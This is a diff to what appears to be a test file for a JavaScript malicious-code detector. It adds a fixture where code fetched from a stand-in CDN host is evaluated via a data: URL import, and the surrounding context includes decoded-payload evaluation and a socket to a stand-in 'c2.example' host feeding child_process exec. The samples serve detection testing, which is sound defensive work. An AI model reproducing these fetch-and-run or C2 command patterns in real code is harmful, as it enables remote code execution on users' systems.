@@ -54,6 +54,13 @@ setTimeout(() => console.log(text), 10)`,
     ['decoded Buffer.from 2 → evaluation setTimeout 3', 'decoded Buffer.from 2 → evaluation worker_threads.Worker 4'],
   ],
   [
+    'a download that is imported as an address of its own',
+    `const text = await (await fetch('https://cdn.example/x.js')).text()
+import('data:text/javascript,' + text)
+import('./locales/' + text + '.js')`,
+    ['download fetch 1 cdn.example → evaluation import 2'],
+  ],
+  [
     'a command from a socket',
     `const net = require('net'), { exec } = require('child_process')
 const s = net.connect(4444, 'c2.example', () => {})
